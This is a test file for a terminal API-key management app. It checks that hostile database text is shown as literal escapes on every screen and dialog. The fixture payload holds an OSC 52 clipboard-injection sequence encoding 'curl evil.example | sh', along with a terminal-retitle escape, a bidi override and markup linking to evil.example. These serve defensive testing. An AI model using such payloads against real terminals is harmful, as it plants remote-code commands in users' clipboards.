"""Database text written around the store's rules is shown, never obeyed: every screen, every field.

What reaches the terminal is what Textual's driver writes for a frame: for each line a cursor
move, then each segment's text wrapped in its style's codes (LayoutUpdate.render_segments).
The moves and styles are the app's own; only a segment's text (and a style's link, written as
OSC 8) can carry database text. So a frame is safe when no segment's text holds a control,
format or bidi character and no segment links anywhere: that is checked on the very strips the
driver would write (the compositor's full update, modal screens over their background).
"""

from __future__ import annotations

import unicodedata
from collections.abc import Iterator
from datetime import timedelta
from typing import Any

import pytest
from rich.segment import Segment
from sqlalchemy import text
from textual.pilot import Pilot
from textual.strip import Strip

from apikey_tui.store import KeyStore
from apikey_tui.tui.app import ApiKeysApp
from apikey_tui.tui.dialogs.ask_value import AskValueDialog
from apikey_tui.tui.dialogs.confirm import ConfirmDialog
from apikey_tui.tui.dialogs.create_key import CreateKeyDialog
from apikey_tui.tui.dialogs.edit_scopes import EditScopesDialog
from apikey_tui.tui.dialogs.help import HelpScreen
from apikey_tui.tui.dialogs.reveal_secret import RevealSecretDialog
from apikey_tui.tui.dialogs.scope_form import ScopeFormDialog
from apikey_tui.tui.dialogs.switch_owner import SwitchOwnerDialog
from apikey_tui.tui.key_table import KeyTable
from apikey_tui.tui.keys_screen import KeysScreen
from apikey_tui.tui.screens.audit_trail import AuditTrailScreen
from apikey_tui.tui.screens.key_detail import KeyDetailScreen
from apikey_tui.tui.screens.scope_catalog import ScopeCatalogScreen
from tests.conftest import FakeClock
from tests.tui.conftest import Toasts
from tests.tui.test_app import settle

SIZE = (100, 30)
# The attack of the finding: OSC 52 puts a command into the admin's clipboard, OSC 2 retitles
# the terminal; then a CSI, a C1 CSI (\x9b), a bidi override and Rich / Textual markup.
OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # "curl evil.example | sh"
OSC2 = "\x1b]2;prod\x07"
MARKUP = "[bold]B[/bold][link=https://evil.example]L[/link][@click=app.quit]Q[/]"


def hostile(label: str) -> str:
    """A field's text: the sequences first (so no cut hides them), then the label and markup."""
    return f"{OSC52}{OSC2}\x1b[2J\x9b31m\u202e{label}\u202c{MARKUP}"


OWNER, SCOPE = hostile("own"), hostile("sc")
NAMES = {n: hostile(n) for n in ("ci", "off", "gone", "del", "race")}


def unsafe(ch: str) -> bool:
    """Control (C0, C1), format (bidi, zero width), surrogate, private or unassigned."""
    return unicodedata.category(ch)[0] == "C"


def frame(app: ApiKeysApp) -> list[Segment]:
    """Every segment of the frame the driver would write now, background screens included."""
    update = app.screen._compositor.render_update(full=True, screen_stack=app._background_screens)
    strips: list[list[Strip]] = update.strips  # type: ignore[union-attr]
    return [segment for line in strips for strip in line for segment in strip]


def frame_text(app: ApiKeysApp) -> str:
    return "".join(segment.text for segment in frame(app))


def assert_safe(app: ApiKeysApp, where: str) -> str:
    """No raw control character and no link in the frame; returns the frame's text."""
    segments = frame(app)
    for segment in segments:
        bad = [ch for ch in segment.text if unsafe(ch)]
        assert not bad, f"{where}: raw {bad!r} in {segment.text!r}"
        assert segment.control is None, f"{where}: a control segment {segment!r}"
        link = segment.style.link if segment.style is not None else None
        assert link is None, f"{where}: a link to {link!r}"
    return "".join(segment.text for segment in segments)


def assert_literal(
    shown: str, where: str, *, markup: bool = True, escape: str = "\\x1b]52;c;"
) -> None:
    """The escapes (and, where the text is not cut before it, the markup) are shown as typed."""
    assert escape in shown, f"{where}: the escapes are not shown"
    if markup:
        assert "[bold]B[/bold]" in shown or "[link=https://evil.example]" in shown, where


def hostile_store(store: KeyStore, clock: FakeClock) -> None:
    """Keys, a scope and events whose every text field is hostile, written with raw SQL.

    The store's own validation refuses such text; any process that can write the database
    file (or a compromised service role) can put it there anyway.
    """
    for name in NAMES:
        store.create_key("alice", name, ["project"])
    clock.advance(timedelta(minutes=5))
    store.rotate_key("alice", "ci", grace=timedelta(hours=24))  # a grace: O and "old secret"
    store.disable_key("alice", "off", "reason")
    with store.engine.begin() as conn:
        conn.execute(
            text("INSERT INTO apikey_tui_scope (name, description) VALUES (:n, :d)"),
            {"n": SCOPE, "d": hostile("description")},
        )
        conn.execute(
            text(
                "INSERT INTO apikey_tui_key_scope (key_id, scope) SELECT id, :s FROM apikey_tui_key"
            ),
            {"s": SCOPE},
        )
        conn.execute(
            text("UPDATE apikey_tui_scope SET description = :d WHERE name = 'project'"),
            {"d": hostile("project")},
        )
        for plain, name in NAMES.items():
            conn.execute(
                text(
                    "UPDATE apikey_tui_key SET owner = :o, name = :n, public_id = :p,"
                    " disabled_reason = CASE WHEN disabled_at IS NULL THEN NULL ELSE :r END,"
                    " old_public_id = CASE WHEN old_public_id IS NULL THEN NULL ELSE :old END"
                    " WHERE name = :plain"
                ),
                {
                    "o": OWNER,
                    "n": name,
                    "p": hostile(f"id-{plain}"),
                    "r": hostile("reason"),
                    "old": hostile("old-id"),
                    "plain": plain,
                },
            )
            conn.execute(
                text(
                    "UPDATE apikey_tui_event SET owner = :o, key_name = :n, public_id = :p,"
                    " actor = :a, actor_address = :addr, detail = :d WHERE key_name = :plain"
                ),
                {
                    "o": OWNER,
                    "n": name,
                    "p": hostile("event-id"),
                    "a": hostile("actor"),
                    "addr": hostile("addr"),
                    "d": hostile("detail"),
                    "plain": plain,
                },
            )
        conn.execute(
            text("UPDATE apikey_tui_event SET scope = :s, actor = :a WHERE scope IS NOT NULL"),
            {"s": SCOPE, "a": hostile("actor")},
        )


@pytest.fixture
def hostile_app(tui_store: KeyStore, clock: FakeClock) -> Iterator[ApiKeysApp]:
    """The app over every owner's keys (so the owner column shows) on a hostile database label."""
    hostile_store(tui_store, clock)
    label = f"sqlite:////srv/{hostile('dir')}/keys.db"
    yield ApiKeysApp(tui_store, owner=None, database_label=label, poll_seconds=60)


async def press(pilot: Pilot[Any], *keys: str) -> None:
    await pilot.press(*keys)
    await settle(pilot)


async def select(pilot: Pilot[Any], plain: str) -> None:
    """Put the table's cursor on the key NAMES[plain]."""
    table = pilot.app.screen_stack[1].query_one(KeyTable)
    table.cursor_row = [k.name for k in table.rows].index(NAMES[plain])
    await settle(pilot)


async def visit(pilot: Pilot[Any], key: str, kind: type, where: str) -> str:
    """Press key, check the screen it opens is kind and safe; returns what it shows."""
    await press(pilot, key)
    app = pilot.app
    assert isinstance(app, ApiKeysApp)
    assert isinstance(app.screen, kind), f"{where}: {app.screen!r}"
    return assert_safe(app, where)


async def test_every_screen_shows_hostile_database_text_literally(
    hostile_app: ApiKeysApp, tui_store: KeyStore
) -> None:
    """Table, views, dialogs, toasts and top lines show hostile text as escapes, markup as text."""
    app = hostile_app
    toasts = Toasts()
    async with app.run_test(size=SIZE, notifications=True, message_hook=toasts.hook) as pilot:
        await settle(pilot)
        # Names that differ only in the middle keep that part when cut (names.shorten): the
        # escapes show as escapes at their start, the labels that tell them apart after.
        rows = assert_safe(app, "key table")
        assert_literal(rows, "key table", markup=False, escape="\\x1b]52")
        assert all(f"…{label}" in rows for label in ("ci", "del", "gone")), rows

        # The key detail, and every dialog it opens, for a key in grace.
        await select(pilot, "ci")
        shown = await visit(pilot, "enter", KeyDetailScreen, "key detail")
        assert_literal(shown, "key detail")
        for key, kind, where in (
            ("e", EditScopesDialog, "edit scopes"),
            ("d", ConfirmDialog, "delete"),
            ("r", ConfirmDialog, "recreate"),
            ("R", AskValueDialog, "rotate"),
            ("O", ConfirmDialog, "end grace"),
            ("x", AskValueDialog, "disable"),
            ("E", AskValueDialog, "set expiry"),
        ):
            assert_literal(await visit(pilot, key, kind, where), where)
            await press(pilot, "escape")
        await visit(pilot, "question_mark", HelpScreen, "help over the detail")
        await press(pilot, "escape")
        await press(pilot, "escape")

        # A disabled key: its reason, in the enable dialog and the detail.
        await select(pilot, "off")
        assert_literal(await visit(pilot, "x", ConfirmDialog, "enable"), "enable")
        await press(pilot, "escape")
        assert_literal(await visit(pilot, "enter", KeyDetailScreen, "disabled detail"), "detail")
        await press(pilot, "escape")

        # The scope catalog, its dialogs and the refusal toast naming the keys that hold it.
        shown = await visit(pilot, "c", ScopeCatalogScreen, "scope catalog")
        catalog = app.screen
        assert isinstance(catalog, ScopeCatalogScreen)
        table = catalog.query_one("#scope-table")
        table.move_cursor(row=[s.name for s in catalog.usage].index(SCOPE))  # type: ignore[attr-defined]
        await settle(pilot)
        assert_literal(assert_safe(app, "scope catalog"), "scope catalog")
        assert_literal(await visit(pilot, "e", ScopeFormDialog, "describe scope"), "describe")
        await press(pilot, "escape")
        await press(pilot, "d")  # held by keys: no Remove offered, a toast names the keys
        await settle(pilot)
        assert toasts.shown, "the refusal is a toast"
        assert_literal(assert_safe(app, "refusal toast"), "refusal toast")
        await press(pilot, "escape")

        # The audit trail, the owner switch, help and the create dialog.
        assert_literal(await visit(pilot, "a", AuditTrailScreen, "audit trail"), "audit trail")
        await press(pilot, "escape")
        await visit(pilot, "o", SwitchOwnerDialog, "switch owner")
        await press(pilot, "escape")
        await visit(pilot, "question_mark", HelpScreen, "help")
        await press(pilot, "escape")
        # (the scope list folds its text in columns: the markup is checked on the other screens)
        assert_literal(await visit(pilot, "n", CreateKeyDialog, "create"), "create", markup=False)
        await press(pilot, "escape")

        # Toasts: a lifecycle change, a refusal quoting the key, a deletion, a key vanished.
        toasts.clear(app)
        await select(pilot, "ci")
        await visit(pilot, "x", AskValueDialog, "disable")
        await press(pilot, "enter")
        assert_literal(assert_safe(app, "disabled toast"), "disabled toast")
        toasts.clear(app)
        await select(pilot, "race")
        await visit(pilot, "d", ConfirmDialog, "delete")
        tui_store.delete_key(OWNER, NAMES["race"])  # deleted elsewhere while asking
        await press(pilot, "y")
        assert any(n.severity == "error" for n in toasts.shown)
        assert_literal(assert_safe(app, "not-done toast"), "not-done toast")
        toasts.clear(app)
        await select(pilot, "del")
        await visit(pilot, "d", ConfirmDialog, "delete")
        await press(pilot, "y")
        assert_literal(assert_safe(app, "deleted toast"), "deleted toast")
        toasts.clear(app)
        await select(pilot, "gone")
        detail = app.screen_stack[1]
        assert isinstance(detail, KeysScreen)
        await visit(pilot, "enter", KeyDetailScreen, "detail")
        tui_store.delete_key(OWNER, NAMES["gone"])
        screen = app.screen
        assert isinstance(screen, KeyDetailScreen)
        screen.reload()
        await settle(pilot)
        assert isinstance(app.screen, KeysScreen), "the detail closed"
        assert toasts.shown, "and said why"
        assert_literal(assert_safe(app, "vanished toast"), "vanished toast")

        # The one-time reveal after a recreate names the key.
        toasts.clear(app)
        await select(pilot, "off")
        await visit(pilot, "r", ConfirmDialog, "recreate")
        await press(pilot, "y")
        assert isinstance(app.screen, RevealSecretDialog)
        assert_literal(assert_safe(app, "reveal"), "reveal")
